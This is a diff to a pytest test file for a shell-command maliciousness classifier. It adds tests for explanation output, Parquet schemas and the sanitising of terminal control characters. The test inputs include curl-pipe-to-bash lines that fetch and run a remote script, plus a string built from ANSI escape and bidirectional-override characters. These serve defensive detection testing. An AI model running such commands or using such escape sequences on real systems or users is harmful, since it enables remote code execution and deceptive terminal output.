@@ -13,6 +13,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from cmdclf.classify import Scorer
+from cmdclf.classify.explain import EXPLAINED
 from cmdclf.cli import main
 
 LINES = ["curl -s http://198.51.100.77/x.sh | bash", "grep -rn timeout5 /etc/nginx", "", 'echo "a, b"', "ls é"]
@@ -97,13 +98,62 @@ def test_more_rows_than_a_batch_come_out_in_order(model_dir, tmp_path):
     assert out["score"].null_count == 0
 
 
-def test_explain_adds_layers_and_reasons(model_dir, tmp_path, capsysbinary):
-    path = tmp_path / "lines.txt"
-    path.write_text("sh -c 'curl -s http://198.51.100.9/x.sh | bash'\n")
-    assert main(["score", str(path), "--model", str(model_dir), "--explain"]) == 0
-    (row,) = [json.loads(line) for line in capsysbinary.readouterr().out.splitlines()]
+def explained(model_dir, tmp_path, capsysbinary, *texts, form="jsonl"):
+    path = tmp_path / "lines.jsonl"
+    path.write_text("".join(json.dumps({"command_line": text, "platform": "linux"}) + "\n" for text in texts))
+    assert main(["score", str(path), "--model", str(model_dir), "--explain", "--out-format", form]) == 0
+    return capsysbinary.readouterr().out.decode()
+
+
+def test_explain_adds_layers_spans_checks_and_reasons(model_dir, tmp_path, capsysbinary):
+    line = "sh -c 'curl -s http://198.51.100.9/x.sh | bash'"
+    (row,) = [json.loads(one) for one in explained(model_dir, tmp_path, capsysbinary, line).splitlines()]
     assert any("curl" in layer for layer in row["layers"])
     assert row["reasons"]
+    assert row["checks"]
+    assert row["neighbours"] == []
+    assert all(line[span["start"] : span["end"]] == span["text"] for span in row["spans"])
+    assert set(row["log_odds"]) == {"ngrams", "constant", "rest"}
+
+
+def test_an_explanation_in_parquet_is_structs(model_dir, tmp_path):
+    path = tmp_path / "lines.txt"
+    path.write_text("".join(f"{line}\n" for line in LINES))
+    out = tmp_path / "out.parquet"
+    assert main(["score", str(path), "--model", str(model_dir), "--explain", "--out", str(out)]) == 0
+    table = pq.read_table(out)
+    assert table.select(EXPLAINED.names).schema.types == EXPLAINED.types
+    assert table.num_rows == len(LINES)
+
+
+def test_text_for_people_cannot_steer_the_terminal(model_dir, tmp_path, capsysbinary):
+    hostile = "curl \x1b[31m\u202ehttp://198.51.100.9/x.sh\r| bash\x9b2J\n\u2028 echo \x7f"
+    text = explained(model_dir, tmp_path, capsysbinary, hostile, "sh -c 'ls \x1b[2J'", form="text")
+    assert all(c.isprintable() or c == "\n" for c in text)
+    assert "\\x1b[31m" in text
+
+
+def test_a_terminal_gets_text_for_people_and_a_pipe_gets_rows(model_dir, tmp_path, capsysbinary, monkeypatch):
+    path = tmp_path / "lines.txt"
+    path.write_text("ls\n")
+    command = ["score", str(path), "--model", str(model_dir), "--explain"]
+    assert main(command) == 0
+    assert json.loads(capsysbinary.readouterr().out)["command_line"] == "ls"
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
+    assert main(command) == 0
+    assert capsysbinary.readouterr().out.decode().splitlines()[1].strip() == "ls"
+    assert main([*command, "--out-format", "jsonl"]) == 0
+    assert json.loads(capsysbinary.readouterr().out)["spans"] == []
+
+
+def test_text_for_people_marks_the_spans_of_the_line(model_dir, tmp_path, capsysbinary):
+    line = "curl -s http://198.51.100.9/x.sh | bash"
+    shown = explained(model_dir, tmp_path, capsysbinary, line, form="text").splitlines()
+    assert shown[0].startswith("malicious  0.")
+    assert shown[1].strip() == line
+    assert any(row.strip().startswith("check: ") for row in shown)
+    assert any(row.strip().startswith("log-odds: trees and others") for row in shown)
+    assert shown[-1] == ""
 
 
 def test_a_damaged_model_stops_before_anything_is_written(model_dir, tmp_path, capsys):
